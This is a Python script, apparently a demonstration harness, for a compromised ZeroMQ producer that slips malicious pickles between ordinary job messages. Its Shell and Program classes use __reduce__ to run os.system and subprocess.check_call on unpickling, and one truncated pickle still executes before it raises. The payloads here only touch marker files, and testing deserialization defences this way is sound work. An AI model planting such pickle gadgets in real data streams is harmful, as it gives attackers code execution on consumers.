# SPDX-License-Identifier: Apache-2.0
"""A producer that somebody took over: honest jobs, and between them pickles that start programs.

usage: producer.py ADDRESS FOLDER
Each attack creates a file in FOLDER, so that everyone can see whether it ran.
"""
import collections
import datetime
import os
import pickle
import subprocess
import sys

import zmq


class Shell:
    """The published attack: __reduce__ says what to call while this is loaded."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


class Program(Shell):
    """The same through another door."""

    def __reduce__(self):
        return subprocess.check_call, (self.command.split(),)


def messages(folder):
    """What is sent, in order: (a line for the screen, the bytes)."""
    jobs = [
        {"job": 1, "task": "resize", "sizes": [320, 640, 1280]},
        collections.OrderedDict(job=2, task="train", rate=0.001, tags={"night"}),
        {"job": 3, "task": "report", "due": datetime.date(2027, 1, 31)},
    ]
    shell = pickle.dumps(Shell(f"touch {folder}/os-system"))
    program = pickle.dumps(Program(f"touch {folder}/subprocess"))
    # Protocol 0 and without its last byte: pickle.loads raises, but only after the call.
    cut = pickle.dumps(Shell(f"touch {folder}/cut-short"), protocol=0)[:-1]
    return [
        ("a job", pickle.dumps(jobs[0])),
        ("ATTACK os.system", shell),
        ("a job", pickle.dumps(jobs[1])),
        ("ATTACK subprocess.check_call", program),
        ("ATTACK os.system, cut short", cut),
        ("a job", pickle.dumps(jobs[2])),
    ]


def main(address, folder):
    sock = zmq.Context().socket(zmq.PUSH)
    sock.connect(address)
    for words, data in messages(folder):
        print(f"{words}, {len(data)} bytes", flush=True)
        sock.send(data)
    sock.close(linger=5000)  # what is not taken within five seconds is given up
    sock.context.term()


if __name__ == "__main__":
    main(*sys.argv[1:])
